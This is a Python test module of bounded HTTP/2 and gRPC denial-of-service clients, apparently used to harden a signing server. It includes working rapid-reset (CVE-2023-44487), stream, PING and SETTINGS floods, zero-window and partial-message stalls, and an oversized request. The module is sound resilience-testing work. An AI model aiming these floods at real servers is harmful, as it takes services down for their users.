"""Bounded attack clients for HTTP/2 + gRPC servers: the hostile peers of issue 11 / DESIGN §16.

Used by ``scripts/bench --hostile`` and by regression tests. Each attack is an ``async def``
under Trio that takes a ``connect`` callable returning a fresh `trio.abc.Stream` (plain TCP for
h2c, a UNIX socket, or TLS: see `tcp_connector`, `unix_connector`, `tls_connector`), explicit
count and time bounds, and returns an `AttackStats`. Every attack stops by itself once its
counts are spent or ``duration_s`` has passed, and closes every connection it opened.

Frames are built by hand (``struct``; the tests parse them back with ``hyperframe``) and header
blocks with ``hpack`` using never-indexed literals, so the same block bytes can be sent again
and again on one connection. h2's own client state machine is not used on purpose: it refuses
to misbehave.

What the server did is read from the connection (when the attack reads at all): GOAWAY error
codes, RST_STREAMs, ``grpc-status`` values in response headers and trailers, and connections
closed by the server. Attacks that must never read (the floods, the zero window) only read
after they have finished sending, for at most ``drain_s``, to see how the server reacted.

Loopback and UNIX sockets only: these are test tools, not a scanner.
"""

from __future__ import annotations

import contextlib
import functools
import ssl
import struct
import time
from collections import Counter
from collections.abc import Awaitable, Callable, Sequence
from dataclasses import dataclass, field
from typing import Final

import hpack
import trio
from hyperframe.frame import Frame

__all__ = [
    "CONNECTION_PREFACE",
    "SETTINGS_ACK",
    "AttackStats",
    "Connect",
    "frame",
    "grpc_message",
    "huge_sign_request_body",
    "request_header_block",
    "settings_frame",
    "hold_bare_connections",
    "huge_sign_request",
    "idle_connections",
    "partial_messages",
    "ping_flood",
    "rapid_reset",
    "settings_flood",
    "stream_flood_no_settings_ack",
    "tcp_connector",
    "tls_connector",
    "unix_connector",
    "zero_window",
]

#: Opens one fresh connection to the server under attack.
Connect = Callable[[], Awaitable[trio.abc.Stream]]

CONNECTION_PREFACE: Final = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"

PING_PATH: Final = "/trio_sign.v1.SignService/Ping"
SIGN_PATH: Final = "/trio_sign.v1.SignService/Sign"

# Frame types and flags (RFC 9113 §6).
DATA: Final = 0x0
HEADERS: Final = 0x1
RST_STREAM: Final = 0x3
SETTINGS: Final = 0x4
PING: Final = 0x6
GOAWAY: Final = 0x7
WINDOW_UPDATE: Final = 0x8
CONTINUATION: Final = 0x9
END_STREAM: Final = 0x1
ACK: Final = 0x1
END_HEADERS: Final = 0x4
PADDED: Final = 0x8
PRIORITY: Final = 0x20

SETTINGS_ENABLE_PUSH: Final = 0x2
SETTINGS_INITIAL_WINDOW_SIZE: Final = 0x4
SETTINGS_MAX_FRAME_SIZE: Final = 0x5
CANCEL: Final = 0x8

_DEFAULT_WINDOW: Final = 65_535
_DEFAULT_MAX_FRAME: Final = 16_384
_MAX_STREAM_ID: Final = 2**31 - 1
_FRAME_HEAD: Final = struct.Struct(">IBI")  # (length << 8 | type), flags, stream id
_SETTING: Final = struct.Struct(">HI")
_GRPC_PREFIX: Final = struct.Struct(">BI")
_RECEIVE_SIZE: Final = 65_536
#: Frames are batched into writes of about this many bytes.
_BATCH_BYTES: Final = 64 * 1024
#: How long an attack that did not read may read afterwards to see the server's reaction.
DEFAULT_DRAIN_S: Final = 0.5
#: Stop retrying a failed connect this often per second (per task).
_RECONNECT_PAUSE_S: Final = 0.02

_CONNECTION_ERRORS: Final = (trio.BrokenResourceError, trio.ClosedResourceError, OSError)


def frame(frame_type: int, flags: int, stream_id: int, payload: bytes = b"") -> bytes:
    """One HTTP/2 frame: 9-byte header and ``payload``."""
    return _FRAME_HEAD.pack(len(payload) << 8 | frame_type, flags, stream_id) + payload


def parse_frames(data: bytes | bytearray) -> list[Frame]:
    """Every frame in ``data``, parsed by hyperframe (for tests reading what a server sent).

    Raises:
        ValueError: ``data`` ends inside a frame.
    """
    view = memoryview(bytes(data))
    frames: list[Frame] = []
    pos = 0
    while pos < len(view):
        if len(view) - pos < 9:
            raise ValueError(f"{len(view) - pos} bytes left: not a whole frame header")
        parsed, length = Frame.parse_frame_header(view[pos : pos + 9])
        if len(view) - pos - 9 < length:
            raise ValueError(f"frame of {length} bytes cut short")
        parsed.parse_body(view[pos + 9 : pos + 9 + length])
        frames.append(parsed)
        pos += 9 + length
    return frames


def settings_frame(settings: Sequence[tuple[int, int]] = ()) -> bytes:
    """A SETTINGS frame (not an ACK) carrying ``settings`` as (identifier, value) pairs."""
    return frame(SETTINGS, 0, 0, b"".join(_SETTING.pack(k, v) for k, v in settings))


SETTINGS_ACK: Final = frame(SETTINGS, ACK, 0)


def grpc_message(body: bytes) -> bytes:
    """A gRPC length-prefixed, uncompressed message."""
    return _GRPC_PREFIX.pack(0, len(body)) + body


@functools.lru_cache(maxsize=16)
def request_header_block(path: str, authority: str = "localhost", scheme: str = "http") -> bytes:
    """An HPACK block for a gRPC request to ``path``: static-table references and never-indexed
    literals only, so it decodes the same however many times it is sent on one connection."""
    headers = [
        (":method", "POST"),
        (":scheme", scheme),
        (":path", path),
        (":authority", authority),
        ("content-type", "application/grpc"),
        ("te", "trailers"),
    ]
    return bytes(hpack.Encoder().encode([(n, v, True) for n, v in headers]))


# -- connectors --------------------------------------------------------------------------------


def tcp_connector(host: str, port: int, *, local_address: str | None = None) -> Connect:
    """Plain TCP connections (h2c, or for `hold_bare_connections` in front of TLS), from
    ``local_address`` if given (another loopback address: a client apart from the others)."""

    async def connect() -> trio.abc.Stream:
        return await trio.open_tcp_stream(host, port, local_address=local_address)

    return connect


def unix_connector(path: str) -> Connect:
    """UNIX socket connections."""

    async def connect() -> trio.abc.Stream:
        return await trio.open_unix_socket(path)

    return connect


def tls_connector(
    inner: Connect, ssl_context: ssl.SSLContext, server_hostname: str = "localhost"
) -> Connect:
    """TLS over ``inner``'s connections, handshake done before the stream is returned.
    ``ssl_context`` carries the client certificate and ALPN ``h2``."""

    async def connect() -> trio.abc.Stream:
        raw = await inner()
        tls = trio.SSLStream(raw, ssl_context, server_hostname=server_hostname)
        try:
            await tls.do_handshake()
        except BaseException:
            await trio.aclose_forcefully(raw)
            raise
        return tls

    return connect


# -- results -----------------------------------------------------------------------------------


@dataclass(frozen=True)
class AttackStats:
    """What an attack did and how the server reacted.

    Attributes:
        attack: the attack's name (its function's).
        connections: connections opened (connect returned).
        connect_failures: connect attempts that raised (refused, reset, TLS handshake failed).
        frames_sent: HTTP/2 frames written (the preface is not a frame).
        bytes_sent: bytes written, preface included.
        streams_opened: request streams opened (HEADERS sent).
        frames_received: HTTP/2 frames read from the server.
        bytes_received: bytes read from the server.
        goaways: (error code, how many) for every GOAWAY received, sorted by code.
        resets_received: RST_STREAM frames received.
        grpc_statuses: (grpc-status, how many) seen in response headers and trailers.
        closed_by_server: connections that the server closed (EOF, reset, write failed)
            before the attack closed them.
        elapsed_s: wall time from start to the end of cleanup.
    """

    attack: str
    connections: int
    connect_failures: int
    frames_sent: int
    bytes_sent: int
    streams_opened: int
    frames_received: int
    bytes_received: int
    goaways: tuple[tuple[int, int], ...]
    resets_received: int
    grpc_statuses: tuple[tuple[int, int], ...]
    closed_by_server: int
    elapsed_s: float

    @property
    def goaway_codes(self) -> frozenset[int]:
        """The distinct GOAWAY error codes received."""
        return frozenset(code for code, _ in self.goaways)

    def summary(self) -> str:
        """One line for a report."""
        goaway = ",".join(f"{_ERROR_NAMES.get(c, hex(c))}x{n}" for c, n in self.goaways) or "-"
        return (
            f"{self.connections} conn ({self.connect_failures} failed), "
            f"{self.frames_sent:,} frames / {self.bytes_sent / 2**20:.1f} MiB sent, "
            f"{self.streams_opened:,} streams; server: GOAWAY {goaway}, "
            f"{self.resets_received:,} RST, {self.closed_by_server} closed"
        )


_ERROR_NAMES: Final = {
    0x0: "NO_ERROR",
    0x1: "PROTOCOL_ERROR",
    0x2: "INTERNAL_ERROR",
    0x3: "FLOW_CONTROL_ERROR",
    0x4: "SETTINGS_TIMEOUT",
    0x5: "STREAM_CLOSED",
    0x6: "FRAME_SIZE_ERROR",
    0x7: "REFUSED_STREAM",
    0x8: "CANCEL",
    0x9: "COMPRESSION_ERROR",
    0xA: "CONNECT_ERROR",
    0xB: "ENHANCE_YOUR_CALM",
    0xC: "INADEQUATE_SECURITY",
    0xD: "HTTP_1_1_REQUIRED",
}


@dataclass
class _Tally:
    """Mutable counters shared by the connections of one attack."""

    name: str
    started: float = field(default_factory=time.monotonic)
    connections: int = 0
    connect_failures: int = 0
    frames_sent: int = 0
    bytes_sent: int = 0
    streams_opened: int = 0
    frames_received: int = 0
    bytes_received: int = 0
    goaways: Counter[int] = field(default_factory=Counter)
    resets_received: int = 0
    grpc_statuses: Counter[int] = field(default_factory=Counter)
    closed_by_server: int = 0

    def freeze(self) -> AttackStats:
        return AttackStats(
            attack=self.name,
            connections=self.connections,
            connect_failures=self.connect_failures,
            frames_sent=self.frames_sent,
            bytes_sent=self.bytes_sent,
            streams_opened=self.streams_opened,
            frames_received=self.frames_received,
            bytes_received=self.bytes_received,
            goaways=tuple(sorted(self.goaways.items())),
            resets_received=self.resets_received,
            grpc_statuses=tuple(sorted(self.grpc_statuses.items())),
            closed_by_server=self.closed_by_server,
            elapsed_s=time.monotonic() - self.started,
        )


# -- one connection ------------------------------------------------------------------------


class _ServerClosed(Exception):
    """The server closed (or broke) the connection; the attack on it is over."""


class _Conn:
    """One attacking connection: counted writes, an optional frame-scanning reader, the
    server's flow-control windows as far as it has announced them."""

    def __init__(self, stream: trio.abc.Stream, tally: _Tally, *, ack_settings: bool) -> None:
        self.stream = stream
        self._tally = tally
        self._ack_settings = ack_settings
        self._lock = trio.Lock()
        self._control = bytearray()  # SETTINGS ACKs owed, written before the next write
        self._control_frames = 0
        self._inbuf = bytearray()
        self._header_block = bytearray()
        self._decoder = hpack.Decoder()
        self._decoding_ok = True
        self.closed = trio.Event()  # set when the server closed, or we did
        self.goaway = trio.Event()  # set when the server's GOAWAY was read
        self._closed_by_us = False
        self._read_eof = False
        self.max_frame_size = _DEFAULT_MAX_FRAME
        self._initial_window = _DEFAULT_WINDOW
        self._conn_window = _DEFAULT_WINDOW
        self._stream_windows: dict[int, int] = {}
        self._window_changed = trio.Event()
        self.responses_done = 0  # streams that got END_STREAM from the server (or were reset)
        self.response_event = trio.Event()

    # writing

    async def send(self, data: bytes | bytearray, frames: int, *, streams: int = 0) -> None:
        """Write ``data`` (``frames`` frames opening ``streams`` streams); raises
        `_ServerClosed` if the connection broke."""
        if self.closed.is_set():
            raise _ServerClosed
        async with self._lock:
            if self._control:
                data = bytes(self._control) + data
                frames += self._control_frames
                self._control.clear()
                self._control_frames = 0
            try:
                await self.stream.send_all(data)
            except _CONNECTION_ERRORS as exc:
                self._server_closed()
                raise _ServerClosed from exc
        self._tally.frames_sent += frames
        self._tally.bytes_sent += len(data)
        self._tally.streams_opened += streams

    async def open_h2(self, settings: Sequence[tuple[int, int]] = (), *, blind_ack: bool) -> None:
        """Client preface and SETTINGS; with ``blind_ack`` a SETTINGS ACK right away (for
        attacks that never read, so never see the server's SETTINGS)."""
        data = CONNECTION_PREFACE + settings_frame(settings)
        await self.send(data + SETTINGS_ACK if blind_ack else data, 2 if blind_ack else 1)

    # flow control (the server's receive windows, our send windows)

    def open_stream(self, stream_id: int) -> None:
        self._stream_windows[stream_id] = self._initial_window

    async def reserve(self, stream_id: int, want: int) -> int:
        """Wait until ``stream_id`` may send DATA; returns how many bytes (1..want) it may
        send in the next frame, already deducted from the windows."""
        while True:
            if self.closed.is_set():
                raise _ServerClosed
            room = min(
                want, self._conn_window, self._stream_windows.get(stream_id, 0), self.max_frame_size
            )
            if room > 0:
                self._conn_window -= room
                self._stream_windows[stream_id] -= room
                return room
            await self._window_changed.wait()

    def _windows_changed(self) -> None:
        self._window_changed.set()
        self._window_changed = trio.Event()

    # reading

    async def read_until_closed(self, max_bytes: float = float("inf")) -> None:
        """Read and scan frames until the server closes or ``max_bytes`` were read."""
        got = 0
        # A failed write marks the connection closed, but what the server sent before it
        # closed (its GOAWAY) may still be there to read: read until EOF.
        while got < max_bytes and not self._read_eof and not self._closed_by_us:
            try:
                data = await self.stream.receive_some(_RECEIVE_SIZE)
            except _CONNECTION_ERRORS:
                self._read_eof = True
                self._server_closed()
                return
            if not data:
                self._read_eof = True
                self._server_closed()
                return
            got += len(data)
            self._tally.bytes_received += len(data)
            self._scan(data)
            if self._control and not self._lock.locked():
                try:
                    await self.send(b"", 0)
                except _ServerClosed:
                    return

    async def drain(self, seconds: float, max_bytes: int = 64 * 2**20) -> None:
        """After a no-read attack: read for at most ``seconds`` (and ``max_bytes``) to see the
        server's GOAWAY or close. Sends nothing, not even a SETTINGS ACK."""
        self._ack_settings = False
        with trio.move_on_after(seconds):
            await self.read_until_closed(max_bytes)

    def _scan(self, data: bytes | bytearray) -> None:
        buf = self._inbuf
        buf += data
        pos = 0
        end = len(buf)
        while end - pos >= 9:
            head, flags, stream_id = _FRAME_HEAD.unpack_from(buf, pos)
            length = head >> 8
            if end - pos < 9 + length:
                break
            ftype = head & 0xFF
            stream_id &= _MAX_STREAM_ID
            self._tally.frames_received += 1
            if ftype != DATA:  # DATA payloads are skipped without copying
                payload = bytes(buf[pos + 9 : pos + 9 + length])
                self._on_frame(ftype, flags, stream_id, payload)
            elif flags & END_STREAM:
                self._response_done()
            pos += 9 + length
        del buf[:pos]

    def _on_frame(self, ftype: int, flags: int, stream_id: int, payload: bytes) -> None:
        if ftype == SETTINGS and not flags & ACK:
            for i in range(0, len(payload) - len(payload) % 6, 6):
                key, value = _SETTING.unpack_from(payload, i)
                if key == SETTINGS_MAX_FRAME_SIZE:
                    self.max_frame_size = value
                elif key == SETTINGS_INITIAL_WINDOW_SIZE:
                    delta = value - self._initial_window
                    self._initial_window = value
                    for sid in self._stream_windows:
                        self._stream_windows[sid] += delta
                    self._windows_changed()
            if self._ack_settings:
                self._control += SETTINGS_ACK
                self._control_frames += 1
        elif ftype == WINDOW_UPDATE and len(payload) == 4:
            increment = int.from_bytes(payload, "big") & _MAX_STREAM_ID
            if stream_id == 0:
                self._conn_window += increment
            elif stream_id in self._stream_windows:
                self._stream_windows[stream_id] += increment
            self._windows_changed()
        elif ftype == GOAWAY and len(payload) >= 8:
            self._tally.goaways[int.from_bytes(payload[4:8], "big")] += 1
            self.goaway.set()
        elif ftype == RST_STREAM:
            self._tally.resets_received += 1
            self._response_done()
        elif ftype in (HEADERS, CONTINUATION):
            self._on_headers(ftype, flags, payload)

    def _on_headers(self, ftype: int, flags: int, payload: bytes) -> None:
        if ftype == HEADERS:
            start, end = 0, len(payload)
            if flags & PADDED and payload:
                start, end = 1, len(payload) - payload[0]
            if flags & PRIORITY:
                start += 5
            self._header_block[:] = payload[start:end]
        else:
            self._header_block += payload
        if not flags & END_HEADERS:
            return
        if self._decoding_ok:  # once out of step, the HPACK table cannot be trusted
            try:
                headers = self._decoder.decode(bytes(self._header_block), raw=True)
            except hpack.HPACKError:
                self._decoding_ok = False
            else:
                for name, value in headers:
                    if name == b"grpc-status" and value.isdigit():
                        self._tally.grpc_statuses[int(value)] += 1
        if flags & END_STREAM:
            self._response_done()

    def _response_done(self) -> None:
        self.responses_done += 1
        self.response_event.set()
        self.response_event = trio.Event()

    # closing

    def _server_closed(self) -> None:
        if not self.closed.is_set():
            if not self._closed_by_us:
                self._tally.closed_by_server += 1
            self.closed.set()
            self._windows_changed()
            self.response_event.set()

    async def aclose(self) -> None:
        if not self.closed.is_set():
            self._closed_by_us = True
            self.closed.set()
        await trio.aclose_forcefully(self.stream)


async def _connect(connect: Connect, tally: _Tally, *, ack_settings: bool = True) -> _Conn | None:
    try:
        stream = await connect()
    except _CONNECTION_ERRORS:
        tally.connect_failures += 1
        return None
    tally.connections += 1
    return _Conn(stream, tally, ack_settings=ack_settings)


async def _hold(conn: _Conn, deadline: float) -> None:
    """Keep ``conn`` open (reading) until ``deadline`` or until the server closes it."""
    with trio.move_on_at(deadline):
        await conn.read_until_closed()


async def _attack(
    conn: _Conn,
    work: Callable[[], Awaitable[None]],
    *,
    read: bool = True,
    hold_until: float | None = None,
) -> None:
    """Run ``work`` on ``conn``, with the connection's reader beside it when ``read``; a
    server that closes the connection mid-attack ends the attack quietly. Then, with
    ``hold_until``, keep the connection until that time or until the server closes it.
    Closing ``conn`` is the caller's."""
    async with trio.open_nursery() as nursery:
        if read:
            nursery.start_soon(conn.read_until_closed)
        with contextlib.suppress(_ServerClosed):
            await work()
        if hold_until is not None:
            with trio.move_on_at(hold_until):
                await conn.closed.wait()
        nursery.cancel_scope.cancel()


async def _cancel_when(event: trio.Event, scope: trio.CancelScope) -> None:
    await event.wait()
    scope.cancel()


def _check_positive(**values: float) -> None:
    for name, value in values.items():
        if value < 0:
            raise ValueError(f"{name} must be >= 0")


# -- 1. bare TCP connections -----------------------------------------------------------------


async def hold_bare_connections(
    connect_tcp: Connect, count: int, duration_s: float, *, reopen: bool = True
) -> AttackStats:
    """Hold ``count`` TCP connections that never send a byte (no TLS ClientHello, no
    preface) for ``duration_s``; with ``reopen``, reopen any the server drops.

    Args:
        connect_tcp: plain TCP connections, even in front of a TLS server.
        count: connections held at once.
        duration_s: how long.
        reopen: replace connections the server closes, until the time is up.
    """
    _check_positive(count=count, duration_s=duration_s)
    tally = _Tally("hold_bare_connections")
    deadline = trio.current_time() + duration_s

    async def one() -> None:
        while trio.current_time() < deadline:
            # Reads (to notice the server closing), never answers: not even a SETTINGS ACK.
            conn = await _connect(connect_tcp, tally, ack_settings=False)
            if conn is None:
                await trio.sleep(_RECONNECT_PAUSE_S)
                continue
            try:
                await _hold(conn, deadline)
            finally:
                await conn.aclose()
            if not reopen:
                return

    with trio.move_on_at(deadline):
        async with trio.open_nursery() as nursery:
            for _ in range(count):
                nursery.start_soon(one)
    return tally.freeze()


# -- 2. stream flood without acknowledging SETTINGS ------------------------------------------


async def stream_flood_no_settings_ack(
    connect: Connect,
    streams: int,
    *,
    connections: int = 1,
    duration_s: float = 10.0,
    path: str = PING_PATH,
    scheme: str = "http",
) -> AttackStats:
    """Open ``streams`` request streams per connection in one burst without ever
    acknowledging the server's SETTINGS (so a limit it sends there never applies in h2),
    then hold the connections until ``duration_s`` or until the server closes them.

    Each stream is one HEADERS frame (END_HEADERS, no END_STREAM) of a valid gRPC request.
    """
    _check_positive(streams=streams, connections=connections, duration_s=duration_s)
    if streams > 2**30:
        raise ValueError("streams must be <= 2**30 (odd stream ids up to 2**31 - 1)")
    tally = _Tally("stream_flood_no_settings_ack")
    deadline = trio.current_time() + duration_s
    block = request_header_block(path, scheme=scheme)

    async def one() -> None:
        conn = await _connect(connect, tally, ack_settings=False)
        if conn is None:
            return

        async def work() -> None:
            await conn.open_h2(blind_ack=False)
            await _send_headers_burst(conn, block, streams)

        try:
            await _attack(conn, work, hold_until=deadline)
        finally:
            await conn.aclose()

    await _run_bounded(one, connections, deadline)
    return tally.freeze()


async def _send_headers_burst(conn: _Conn, block: bytes, streams: int) -> None:
    per_batch = max(1, _BATCH_BYTES // (9 + len(block)))
    stream_id = 1
    sent = 0
    while sent < streams:
        n = min(per_batch, streams - sent)
        batch = bytearray()
        for _ in range(n):
            batch += _FRAME_HEAD.pack(len(block) << 8 | HEADERS, END_HEADERS, stream_id)
            batch += block
            conn.open_stream(stream_id)
            stream_id += 2
        await conn.send(batch, n, streams=n)
        sent += n


async def _run_bounded(worker: Callable[[], Awaitable[None]], n: int, deadline: float) -> None:
    """Run ``n`` copies of ``worker``; a hard stop a little after ``deadline`` (workers close
    their connections in ``finally``)."""
    with trio.move_on_at(deadline + 1.0):
        async with trio.open_nursery() as nursery:
            for _ in range(n):
                nursery.start_soon(worker)


# -- 3. rapid reset ----------------------------------------------------------------------------


async def rapid_reset(
    connect: Connect,
    connections: int,
    streams_per_connection: int,
    duration_s: float,
    *,
    reconnect: bool = False,
    leave_on_goaway: bool = False,
    path: str = PING_PATH,
    scheme: str = "http",
) -> AttackStats:
    """CVE-2023-44487: on each of ``connections`` connections, open a stream (HEADERS) and
    cancel it at once (RST_STREAM CANCEL), ``streams_per_connection`` times, as fast as the
    socket takes it, for at most ``duration_s``. The server's SETTINGS are acknowledged.

    With ``reconnect``, a connection the server closes is replaced (with a fresh budget of
    ``streams_per_connection``) until the time is up. With ``leave_on_goaway`` as well, the
    attacker closes a connection itself as soon as it reads a GOAWAY, instead of writing
    until the server closes it (a server that holds a cut connection open does not slow it).
    """
    _check_positive(
        connections=connections,
        streams_per_connection=streams_per_connection,
        duration_s=duration_s,
    )
    if streams_per_connection > 2**30:
        raise ValueError("streams_per_connection must be <= 2**30")
    tally = _Tally("rapid_reset")
    deadline = trio.current_time() + duration_s
    block = request_header_block(path, scheme=scheme)
    pair_len = 9 + len(block) + 13
    per_batch = max(1, _BATCH_BYTES // pair_len)
    rst_payload = CANCEL.to_bytes(4, "big")

    async def one_connection() -> None:
        conn = await _connect(connect, tally)
        if conn is None:
            await trio.sleep(_RECONNECT_PAUSE_S)
            return

        async def send_pairs() -> None:
            stream_id = 1
            sent = 0
            while sent < streams_per_connection and trio.current_time() < deadline:
                n = min(per_batch, streams_per_connection - sent)
                batch = bytearray()
                for _ in range(n):
                    batch += _FRAME_HEAD.pack(len(block) << 8 | HEADERS, 0x4, stream_id)
                    batch += block
                    batch += _FRAME_HEAD.pack(4 << 8 | RST_STREAM, 0, stream_id)
                    batch += rst_payload
                    stream_id += 2
                try:
                    await conn.send(batch, 2 * n, streams=n)
                except _ServerClosed:
                    return  # (raised inside work's nursery it would come out as a group)
                sent += n

        async def work() -> None:
            await conn.open_h2(blind_ack=False)
            async with trio.open_nursery() as nursery:
                if leave_on_goaway:
                    nursery.start_soon(_cancel_when, conn.goaway, nursery.cancel_scope)
                await send_pairs()
                nursery.cancel_scope.cancel()

        try:
            await _attack(conn, work)
        finally:
            await conn.aclose()

    async def worker() -> None:
        while True:
            await one_connection()
            if not reconnect or trio.current_time() >= deadline:
                return

    await _run_bounded(worker, connections, deadline)
    return tally.freeze()


# -- 4a. partial messages ----------------------------------------------------------------------


async def partial_messages(
    connect: Connect,
    connections: int,
    bytes_per_connection: int,
    *,
    duration_s: float = 10.0,
    claimed_message_size: int = 4 * 2**20,
    path: str = PING_PATH,
    scheme: str = "http",
) -> AttackStats:
    """On each connection, open request streams whose DATA starts a gRPC message claiming
    ``claimed_message_size`` bytes and send all but its last byte (respecting the server's
    flow-control windows), ``bytes_per_connection`` in all (spread over as many streams as
    needed); then hold, never finishing, until ``duration_s``."""
    _check_positive(
        connections=connections, bytes_per_connection=bytes_per_connection, duration_s=duration_s
    )
    if claimed_message_size < 1:
        raise ValueError("claimed_message_size must be >= 1")
    tally = _Tally("partial_messages")
    deadline = trio.current_time() + duration_s
    block = request_header_block(path, scheme=scheme)
    per_stream = 5 + claimed_message_size - 1  # prefix + all but the last byte
    prefix = _GRPC_PREFIX.pack(0, claimed_message_size)
    filler = bytes(_DEFAULT_MAX_FRAME * 4)

    async def one() -> None:
        conn = await _connect(connect, tally)
        if conn is None:
            return

        async def work() -> None:
            await conn.open_h2(blind_ack=False)
            with trio.move_on_at(deadline):
                await _send_partial(conn, block, prefix, filler, per_stream, bytes_per_connection)

        try:
            await _attack(conn, work, hold_until=deadline)
        finally:
            await conn.aclose()

    await _run_bounded(one, connections, deadline)
    return tally.freeze()


async def _send_partial(
    conn: _Conn, block: bytes, prefix: bytes, filler: bytes, per_stream: int, total: int
) -> None:
    stream_id = 1
    remaining = total
    while remaining > 0:
        conn.open_stream(stream_id)
        await conn.send(frame(HEADERS, END_HEADERS, stream_id, block), 1, streams=1)
        left = min(per_stream, remaining)
        first = True
        while left > 0:
            n = await conn.reserve(stream_id, left)
            body = (prefix + filler)[:n] if first else filler[:n]
            while len(body) < n:  # frames larger than the filler (big MAX_FRAME_SIZE)
                body += filler[: n - len(body)]
            first = False
            await conn.send(frame(DATA, 0, stream_id, body), 1)
            left -= n
            remaining -= n
        stream_id += 2


# -- 4b. zero window ---------------------------------------------------------------------------


async def zero_window(
    connect: Connect,
    requests: int,
    *,
    payload_bytes: int = 512 * 1024,
    duration_s: float = 10.0,
    path: str = PING_PATH,
    scheme: str = "http",
) -> AttackStats:
    """Advertise a zero stream receive window (SETTINGS_INITIAL_WINDOW_SIZE=0, and never a
    WINDOW_UPDATE), send ``requests`` complete requests (a ``PingRequest`` with a
    ``payload_bytes`` payload, so each response is as large) and stop reading while the
    server's responses cannot be sent. Hold until ``duration_s``.

    The server's WINDOW_UPDATEs are read only while the requests are being sent (to respect
    its windows); after that the socket is not read until a final bounded drain.
    """
    _check_positive(requests=requests, payload_bytes=payload_bytes, duration_s=duration_s)
    tally = _Tally("zero_window")
    deadline = trio.current_time() + duration_s
    block = request_header_block(path, scheme=scheme)
    # PingRequest{payload = 1: bytes}
    body = b"\x0a" + _varint(payload_bytes) + bytes(payload_bytes)
    message = grpc_message(body)

    conn = await _connect(connect, tally)
    if conn is None:
        return tally.freeze()

    async def work() -> None:
        await conn.open_h2([(SETTINGS_INITIAL_WINDOW_SIZE, 0)], blind_ack=False)
        stream_id = 1
        for _ in range(requests):
            conn.open_stream(stream_id)
            await conn.send(frame(HEADERS, END_HEADERS, stream_id, block), 1, streams=1)
            await _send_body(conn, stream_id, message)
            stream_id += 2

    try:
        with trio.move_on_at(deadline):
            await _attack(conn, work)  # then stop reading
            await conn.closed.wait()
        await conn.drain(DEFAULT_DRAIN_S)
    finally:
        await conn.aclose()
    return tally.freeze()


async def _send_body(conn: _Conn, stream_id: int, message: bytes) -> None:
    """``message`` in DATA frames within the server's windows, END_STREAM on the last."""
    view = memoryview(message)
    pos = 0
    while True:
        left = len(message) - pos
        n = await conn.reserve(stream_id, left) if left else 0
        last = pos + n == len(message)
        await conn.send(
            frame(DATA, END_STREAM if last else 0, stream_id, bytes(view[pos : pos + n])), 1
        )
        pos += n
        if last:
            return


def _varint(n: int) -> bytes:
    out = bytearray()
    while True:
        byte = n & 0x7F
        n >>= 7
        if n:
            out.append(byte | 0x80)
        else:
            out.append(byte)
            return bytes(out)


# -- 4c. idle connections ----------------------------------------------------------------------


async def idle_connections(connect: Connect, count: int, duration_s: float) -> AttackStats:
    """Open ``count`` connections, complete the HTTP/2 preface (SETTINGS both ways, ACKed),
    then sit idle (reading only) for ``duration_s``."""
    _check_positive(count=count, duration_s=duration_s)
    tally = _Tally("idle_connections")
    deadline = trio.current_time() + duration_s

    async def one() -> None:
        conn = await _connect(connect, tally)
        if conn is None:
            return
        try:
            with trio.move_on_at(deadline):
                await _attack(
                    conn, functools.partial(conn.open_h2, blind_ack=False), hold_until=deadline
                )
        finally:
            await conn.aclose()

    await _run_bounded(one, count, deadline)
    return tally.freeze()


# -- 5. PING and SETTINGS floods --------------------------------------------------------------


async def ping_flood(
    connect: Connect, pings: int, *, read: bool = False, duration_s: float = 10.0
) -> AttackStats:
    """Send ``pings`` PING frames (batched) on one connection; with ``read`` false, never
    read while sending (the server's PING ACKs pile up), then drain briefly."""
    _check_positive(pings=pings, duration_s=duration_s)
    ping = frame(PING, 0, 0, b"\x00" * 8)
    return await _flood("ping_flood", connect, ping, pings, read=read, duration_s=duration_s)


async def settings_flood(
    connect: Connect, frames: int, *, read: bool = False, duration_s: float = 10.0
) -> AttackStats:
    """Send ``frames`` SETTINGS frames (each ENABLE_PUSH=0, each needing an ACK) on one
    connection; with ``read`` false, never read while sending, then drain briefly."""
    _check_positive(frames=frames, duration_s=duration_s)
    one = settings_frame([(SETTINGS_ENABLE_PUSH, 0)])
    return await _flood("settings_flood", connect, one, frames, read=read, duration_s=duration_s)


async def _flood(
    name: str, connect: Connect, unit: bytes, count: int, *, read: bool, duration_s: float
) -> AttackStats:
    tally = _Tally(name)
    deadline = trio.current_time() + duration_s
    per_batch = max(1, _BATCH_BYTES // len(unit))
    full = unit * per_batch
    conn = await _connect(connect, tally)
    if conn is None:
        return tally.freeze()

    async def work() -> None:
        # Not reading: the server's SETTINGS can only be acknowledged blindly.
        await conn.open_h2(blind_ack=not read)
        sent = 0
        while sent < count:
            n = min(per_batch, count - sent)
            await conn.send(full if n == per_batch else unit * n, n)
            sent += n

    try:
        with trio.move_on_at(deadline):
            await _attack(conn, work, read=read)
        if not read:
            with trio.move_on_at(deadline + DEFAULT_DRAIN_S):
                await conn.drain(DEFAULT_DRAIN_S)
    finally:
        await conn.aclose()
    return tally.freeze()


# -- 6. one huge Sign request ------------------------------------------------------------------


def huge_sign_request_body(commitments: int, session_id: str = "no-such-session") -> bytes:
    """A serialized ``SignRequest`` for ``session_id`` with ``commitments`` empty
    ``SigningCommitment``s (2 bytes each: tag of field 3, length 0), built directly."""
    sid = session_id.encode()
    head = b"\x0a" + _varint(len(sid)) + sid + b"\x12\x07message"
    return head + b"\x1a\x00" * commitments


async def huge_sign_request(
    connect: Connect,
    commitments: int = 2_000_000,
    *,
    session_id: str = "no-such-session",
    duration_s: float = 10.0,
    scheme: str = "http",
) -> AttackStats:
    """One valid gRPC ``Sign`` request with ``commitments`` empty commitments for an unknown
    session, in DATA frames of at most the server's MAX_FRAME_SIZE within its windows; then
    wait (at most until ``duration_s``) for the response. ``grpc_statuses`` has its status."""
    _check_positive(commitments=commitments, duration_s=duration_s)
    tally = _Tally("huge_sign_request")
    deadline = trio.current_time() + duration_s
    message = grpc_message(huge_sign_request_body(commitments, session_id))
    conn = await _connect(connect, tally)
    if conn is None:
        return tally.freeze()

    async def work() -> None:
        await conn.open_h2(blind_ack=False)
        conn.open_stream(1)
        headers = frame(HEADERS, END_HEADERS, 1, request_header_block(SIGN_PATH, scheme=scheme))
        await conn.send(headers, 1, streams=1)
        await _send_body(conn, 1, message)
        while conn.responses_done == 0 and not conn.closed.is_set():
            await conn.response_event.wait()

    try:
        with trio.move_on_at(deadline):
            await _attack(conn, work)
    finally:
        await conn.aclose()
    return tally.freeze()
